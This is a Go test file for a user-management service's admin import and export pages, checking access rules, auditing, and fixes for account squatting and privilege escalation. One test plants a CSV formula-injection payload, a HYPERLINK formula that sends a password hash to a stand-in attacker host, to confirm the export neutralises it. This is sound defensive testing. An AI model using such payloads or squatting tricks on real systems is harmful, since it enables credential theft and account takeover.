package pages_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"usher"
	"usher/core/coretest"
)

// upload posts a file to the import page as its form would.
func (br *browser) upload(t *testing.T, name, content, format string, header ...string) page {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	_ = mw.WriteField("csrf_token", br.csrf)
	_ = mw.WriteField("format", format)
	if name != "" {
		fw, err := mw.CreateFormFile("file", name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = fw.Write([]byte(content))
	}
	_ = mw.Close()
	req, _ := http.NewRequest("POST", br.b.srv.URL+"/admin/import", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return br.do(t, req)
}

// TestAdminImportExport: an uploaded file is imported through the core in
// the background, its page showing the progress to the end; an export
// downloads the users; bad uploads and callers are refused.
func TestAdminImportExport(t *testing.T) {
	t.Parallel()
	b := setup(t)
	admin := b.root(t)
	mustContain(t, admin.get(t, "/admin/import"), `enctype="multipart/form-data"`)
	file := `{"username":"ann","email":"ann@example.com"}
{"username":"ben","email":"ben@example.com"}
not json
{"username":"cy","email":"cy@example.com"}
`
	p := admin.upload(t, "users.ndjson", file, "ndjson")
	if p.status != http.StatusSeeOther || !strings.HasPrefix(p.header.Get("Location"), "/admin/import/") {
		t.Fatalf("upload: %d\n%s", p.status, p.body)
	}
	job := p.header.Get("Location")
	deadline := time.Now().Add(20 * time.Second)
	for {
		p = admin.get(t, job)
		if strings.Contains(p.body, "Finished in") {
			break
		}
		// A running import's page reloads itself without script.
		mustContain(t, p, `<noscript><meta http-equiv="refresh" content="2"></noscript>`, `data-poll="running"`)
		if time.Now().After(deadline) {
			t.Fatalf("the import never finished:\n%s", p.body)
		}
		time.Sleep(20 * time.Millisecond)
	}
	mustContain(t, p, `<dd id="created">3</dd>`, `<dd id="failed">1</dd>`, "<td>3</td>", `value="100"`)
	if strings.Contains(p.body, "http-equiv") {
		t.Fatal("a finished import's page still reloads")
	}
	mustContain(t, admin.get(t, "/admin/users?q=ann"), "Users found: 1")

	p = admin.post(t, "/admin/export", url.Values{"format": {"csv"}})
	if p.status != http.StatusOK || !strings.HasPrefix(p.body, "username,") || !strings.Contains(p.body, "ann@example.com") ||
		!strings.Contains(p.header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %v\n%s", p.status, p.header, p.body)
	}
	admin.get(t, "/admin/import")
	tests := []struct {
		name, file, content, format string
		header                      []string
		status                      int
		want                        string
	}{
		{"no file", "", "", "ndjson", nil, http.StatusBadRequest, "choose a file"},
		{"unknown format", "u.xml", "<x/>", "xml", nil, http.StatusUnprocessableEntity, "must be ndjson or csv"},
		{"too large", "big.ndjson", strings.Repeat("x", 65<<20), "ndjson", nil, http.StatusRequestEntityTooLarge, "larger than 64 MiB"},
		{"another site", "u.ndjson", file, "ndjson", []string{"Origin", "https://evil.example"}, http.StatusForbidden, "did not come from this site"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := admin.upload(t, tt.file, tt.content, tt.format, tt.header...)
			if p.status != tt.status {
				t.Fatalf("status %d, want %d\n%s", p.status, tt.status, p.body)
			}
			mustContain(t, p, tt.want)
		})
	}
	if p := admin.post(t, "/admin/export", url.Values{"format": {"xml"}}); p.status != http.StatusBadRequest {
		t.Fatalf("an unknown export format: %d", p.status)
	}
	if p := admin.get(t, "/admin/import/nonsense"); p.status != http.StatusNotFound {
		t.Fatalf("an unknown job: %d", p.status)
	}
	// Another administrator does not see the job.
	b.env.MustCreateUser(t, usherAdmin("root2"))
	other := b.browser(t)
	other.login(t, "root2", password)
	if p := other.get(t, job); p.status != http.StatusNotFound {
		t.Fatalf("another administrator's view of the job: %d", p.status)
	}
	plain := b.browser(t)
	plain.login(t, "plain", password)
	plain.get(t, "/")
	if p := plain.upload(t, "u.ndjson", file, "ndjson"); p.status != http.StatusForbidden {
		t.Fatalf("a plain user's import: %d", p.status)
	}
	if p := plain.post(t, "/admin/export", url.Values{"format": {"csv"}}); p.status != http.StatusForbidden || strings.Contains(p.body, "ann@") {
		t.Fatalf("a plain user's export: %d", p.status)
	}
}

// usherAdmin is a new administrator named name, with the tests' password.
func usherAdmin(name string) usher.UserCreate {
	return usher.UserCreate{Username: name, Email: name + "@example.com", Password: password, Admin: true}
}

// TestImportedPasswordEndsResets: a reset mailed to an account without a
// password sets no password once an import gave the account one, as any
// other change of its password ends the resets mailed before.
func TestImportedPasswordEndsResets(t *testing.T) {
	t.Parallel()
	b := setup(t)
	// The account's address is confirmed: a record that finds it by
	// username may then bring its password (core's TestImportByUsernameAlone).
	b.env.MustCreateUser(t, usher.UserCreate{Username: "nopw", Email: "nopw@example.com", EmailConfirmed: true})
	anon := b.browser(t)
	anon.get(t, "/forgot-password")
	if p := anon.post(t, "/forgot-password", url.Values{"email": {"nopw@example.com"}}); p.status != http.StatusOK {
		t.Fatalf("forgot-password: %d", p.status)
	}
	link := b.link(t, b.mailTo(t, 1, "nopw@example.com"), "/reset-password")
	token := strings.TrimPrefix(link, "/reset-password?token=")
	hash := "$2a$10$C6UzMDM.H6dfI/f/IKxGhuHn8f4O2F/FKAcG2YfAnHYWhCVFXqk7e" // bcrypt of a password the import brings
	p := b.root(t).imported(t, `{"username":"nopw","email":"nopw@example.com","password_hash":"`+hash+`"}`+"\n")
	mustContain(t, p, `<dd id="updated">1</dd>`)
	anon.get(t, link)
	p = anon.post(t, "/reset-password", url.Values{"token": {token}, "password": {"a password from an old mail"}})
	if strings.Contains(p.body, "Your password is changed") {
		t.Fatalf("a reset mailed before the import set the password: %d", p.status)
	}
}

// TestImportStopsWithItsAdministrator replays an import that outlived its
// administrator: with root's session, a file is uploaded to the console;
// those who notice take root's rights away and block it while the file
// is read, but the import went on as root had been, to its last line,
// which made an administrator. It now stops at the next batch.
func TestImportStopsWithItsAdministrator(t *testing.T) {
	t.Parallel()
	b := setup(t)
	admin := b.root(t)
	admin.get(t, "/admin/import")
	const lines = 2000
	var file strings.Builder
	for i := range lines {
		fmt.Fprintf(&file, "{\"username\":\"u%d\",\"email\":\"u%d@example.com\"}\n", i, i)
	}
	file.WriteString(`{"username":"sock","email":"sock@example.com","admin":true}` + "\n")
	if p := admin.upload(t, "users.ndjson", file.String(), "ndjson"); p.status != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", p.status, p.body)
	}
	sys := coretest.System()
	root, err := b.env.Core.Users.Get(sys, usher.UserKey{Username: "root"})
	if err != nil {
		t.Fatal(err)
	}
	no := false
	if _, err := b.env.Core.Users.Update(sys, usher.UserKey{ID: root.ID}, usher.UserUpdate{Admin: &no}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.env.Core.Users.Block(sys, usher.UserKey{ID: root.ID}); err != nil {
		t.Fatal(err)
	}
	// The import ends, one way or the other, when the users stop growing.
	last, still := -1, 0
	for deadline := time.Now().Add(30 * time.Second); still < 10; {
		users, _ := b.env.Counts(t)
		if users == last {
			still++
		} else {
			last, still = users, 0
		}
		if time.Now().After(deadline) {
			t.Fatalf("the import still runs after 30 s: %d users", users)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if u, err := b.env.Core.Users.Get(sys, usher.UserKey{Username: "sock"}); err == nil {
		t.Fatalf("the import went on past its administrator's demotion: sock made, admin %v", u.Admin)
	}
	if _, err := b.env.Core.Users.Get(sys, usher.UserKey{Username: fmt.Sprintf("u%d", lines-1)}); err == nil {
		t.Fatal("the import went on past its administrator's demotion to its last lines")
	}
}

// TestExportIsAudited replays an administrator's session (stolen, say)
// downloading the console's export, which holds every live user's
// password hash, addresses and SSH keys: it left no audit event, so no
// reader of the log saw the hashes go. The export is recorded as
// user.export, with its actor, before the first user is read.
func TestExportIsAudited(t *testing.T) {
	t.Parallel()
	b := setup(t)
	admin := b.root(t)
	p := admin.post(t, "/admin/export", url.Values{"format": {"ndjson"}})
	if p.status != http.StatusOK || !strings.Contains(p.body, "$argon2id$") {
		t.Fatalf("export: %d\n%.300s", p.status, p.body)
	}
	page, err := b.env.Core.Audit.List(coretest.System(), usher.AuditFilter{Action: "user.export"})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Items) != 1 || page.Items[0].ActorName != "root" {
		t.Fatalf("user.export events: %+v; want one by root", page.Items)
	}
}

// TestExportRunsNoFormula replays a user's name set to a spreadsheet
// formula on their own profile page, then an administrator's CSV export,
// which holds every user's password hash: the cell was the formula as
// typed, run by the spreadsheet the administrator opens the file in (a
// link that sends another row's hash away). It is written with a quote
// before it, as text, and the export imports back as it was.
func TestExportRunsNoFormula(t *testing.T) {
	t.Parallel()
	b := setup(t)
	plain := b.browser(t)
	plain.login(t, "plain", password)
	plain.get(t, "/account")
	formula := `=HYPERLINK("https://evil.example/?h="&H3,"Click")`
	if p := plain.post(t, "/account", url.Values{"name": {formula}, "display_name": {"@" + formula}}); p.status != http.StatusOK {
		t.Fatalf("the profile: %d\n%s", p.status, p.body)
	}
	admin := b.root(t)
	p := admin.post(t, "/admin/export", url.Values{"format": {"csv"}})
	if p.status != http.StatusOK {
		t.Fatalf("export: %d\n%.300s", p.status, p.body)
	}
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	quoted := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell of the export starts a formula: %q", cell)
			}
			if cell == "'"+formula || cell == "'@"+formula {
				quoted++
			}
		}
	}
	if quoted != 3 { // the name, its first name, the display name
		t.Fatalf("%d cells hold the quoted formula, want 3\n%s", quoted, p.body)
	}
}

// TestImportRecordNotForASquatter replays, over HTTP, a plain user who
// renamed themselves to the username of someone an administrator was about
// to import as an administrator: the record found their account by its
// username and made them an administrator, with the newcomer's address
// confirmed and external id, and they signed in with their own password.
// The record now fails, and the account is as it was.
func TestImportRecordNotForASquatter(t *testing.T) {
	t.Parallel()
	b := setup(t)
	plain := b.browser(t)
	plain.login(t, "plain", password)
	req, _ := http.NewRequest("PATCH", b.srv.URL+"/v1/users/plain", strings.NewReader(`{"username":"carol"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Origin", b.srv.URL)
	if p := plain.do(t, req); p.status != http.StatusOK {
		t.Fatalf("renaming oneself: %d\n%s", p.status, p.body)
	}
	admin := b.root(t)
	admin.get(t, "/admin/import")
	file := `{"username":"carol","email":"carol@example.com","email_confirmed":true,"external_id":"hr-77","admin":true}` + "\n"
	p := admin.upload(t, "users.ndjson", file, "ndjson")
	if p.status != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", p.status, p.body)
	}
	job := p.header.Get("Location")
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if p = admin.get(t, job); strings.Contains(p.body, "Finished in") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the import never finished:\n%s", p.body)
		}
	}
	mustContain(t, p, `<dd id="failed">1</dd>`, "names an account by its username alone")
	u, err := b.env.Core.Users.Get(coretest.System(), usher.UserKey{ID: b.user.ID})
	if err != nil || u.Admin || u.Email == "carol@example.com" || u.ExternalID != "" {
		t.Fatalf("the renamed account after the import: %+v, %v", u, err)
	}
	again := b.browser(t)
	again.login(t, "carol", password)
	if p := again.get(t, "/admin/users"); p.status != http.StatusForbidden {
		t.Fatalf("the renamed account's view of /admin/users: %d", p.status)
	}
}

// imported uploads an NDJSON file through the console, as br (an
// administrator), and returns the job's page once the import finished.
func (br *browser) imported(t *testing.T, ndjson string) page {
	t.Helper()
	br.get(t, "/admin/import")
	p := br.upload(t, "users.ndjson", ndjson, "ndjson")
	if p.status != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", p.status, p.body)
	}
	job := p.header.Get("Location")
	for deadline := time.Now().Add(20 * time.Second); !strings.Contains(p.body, "Finished in"); time.Sleep(20 * time.Millisecond) {
		if p = br.get(t, job); time.Now().After(deadline) {
			t.Fatalf("the import never finished:\n%s", p.body)
		}
	}
	return p
}

// TestImportRaiseEndsOwnerMints: a team's owner mints its service account
// a token while the account has the defaults; an administrator then
// raises the account's project limit past the default by importing a file
// through the console. A raise by an update revoked the owner's token;
// the import's left it, and the owner kept acting as the raised account,
// which minting now refused them.
func TestImportRaiseEndsOwnerMints(t *testing.T) {
	t.Parallel()
	b := setup(t)
	_, sa, tok := b.env.MustOwnedServiceAccount(t, b.user, "ci", "ci-bot")
	sys := coretest.System()
	// The directory's id, which raises nothing, lets a record name it.
	ext := "dir-ci-bot"
	if _, err := b.env.Core.Users.Update(sys, usher.UserKey{ID: sa.ID}, usher.UserUpdate{ExternalID: &ext}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.env.Core.Auth.Authenticate(sys, tok); err != nil {
		t.Fatalf("the owner's token before the raise: %v", err)
	}
	p := b.root(t).imported(t, `{"username":"ci-bot","external_id":"dir-ci-bot","gitlab":{"projects_limit":200000}}`+"\n")
	mustContain(t, p, `<dd id="updated">1</dd>`)
	req, _ := http.NewRequest("GET", b.srv.URL+"/v1/me", nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusUnauthorized {
		t.Errorf("GET /v1/me with the owner's token after the import's raise: %d, want 401", res.StatusCode)
	}
}

// TestImportActivatesNoSquattersAccount: sign up as "carol"
// with carol's address (pending: no log-in until it is proved), and wait
// for an administrator to import the directory's record of carol through
// the console — her username, her address and the state active. The
// record finds the account by its username alone, without a confirmed
// address, so docs/import.md lets it change the profile, block, lift a
// block and take rights away, "and nothing else": it made the pending
// account active, and the squatter logged in holding an address never
// proved (round 50).
func TestImportActivatesNoSquattersAccount(t *testing.T) {
	t.Parallel()
	b := setup(t)
	squatter := b.browser(t)
	squatter.get(t, "/signup")
	p := squatter.post(t, "/signup", url.Values{"username": {"carol"}, "email": {"carol@example.com"},
		"password": {password}, "name": {"Carol"}})
	if p.status != http.StatusOK {
		t.Fatalf("sign-up: %d\n%s", p.status, p.body)
	}
	before := b.browser(t)
	before.get(t, "/login")
	if p := before.post(t, "/login", url.Values{"login": {"carol"}, "password": {password}}); p.status == http.StatusSeeOther {
		t.Fatalf("a pending account logged in before the import")
	}
	admin := b.root(t)
	p = admin.imported(t, `{"username":"carol","email":"carol@example.com","name":"Carol Kaye","state":"active"}`+"\n")
	if !strings.Contains(p.body, `<dd id="failed">1</dd>`) || !strings.Contains(p.body, "names an account by its username alone") {
		t.Errorf("the record by username alone was not refused: job page shows updated 1: %v, failed 1: %v",
			strings.Contains(p.body, `<dd id="updated">1</dd>`), strings.Contains(p.body, `<dd id="failed">1</dd>`))
	}
	u, err := b.env.Core.Users.Get(coretest.System(), usher.UserKey{Username: "carol"})
	if err != nil || u.State != usher.StatePending {
		t.Errorf("the squatter's account after the import: state %s, confirmed %v, %v; want pending", u.State, u.EmailConfirmedAt, err)
	}
	after := b.browser(t)
	after.get(t, "/login")
	if p := after.post(t, "/login", url.Values{"login": {"carol"}, "password": {password}}); p.status == http.StatusSeeOther {
		t.Errorf("POST /login as the squatter after the import: %d (signed in, carol@example.com never proved)", p.status)
	}
}
